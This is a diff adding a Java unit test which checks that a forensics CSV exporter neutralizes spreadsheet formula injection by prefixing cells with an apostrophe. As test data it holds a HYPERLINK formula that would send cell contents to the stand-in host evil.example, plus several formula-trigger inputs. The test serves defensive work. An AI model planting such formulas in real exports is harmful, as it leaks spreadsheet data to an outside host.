@@ -108,6 +108,20 @@ class ForensicsTest {
     }
 
     @Test
+    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralized() throws IOException {
+        EnrichedEvent login = EnrichedEvent.of(TestEvents.login("e3", "u1", TestEvents.T0));
+        login.event.userAgent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+        login.event.deviceId = "@SUM(1+1)";
+        String row = EventCsv.row(doc(login));
+        assertThat(row).contains("\"'=HYPERLINK(").contains("'@SUM(1+1)").doesNotContain(",=").doesNotContain(",@");
+        for (String hostile : List.of("=1+1", "+1", "-1", "@x", "\tx", "\rx")) {
+            assertThat(EventCsv.neutralize(hostile)).as(hostile).startsWith("'");
+        }
+        assertThat(EventCsv.neutralize("0xabc")).isEqualTo("0xabc");
+        assertThat(EventCsv.neutralize("")).isEmpty();
+    }
+
+    @Test
     void jsonAnswersUseSnakeCaseAndRfc3339Times() throws IOException {
         var group = new Forensics.BackendGroup("withdrawal-approver", "2.14.0-rc1", 12, 12, T0, T0.plusMillis(1500));
         JsonNode json = Json.MAPPER.readTree(ForensicsJson.write(group));
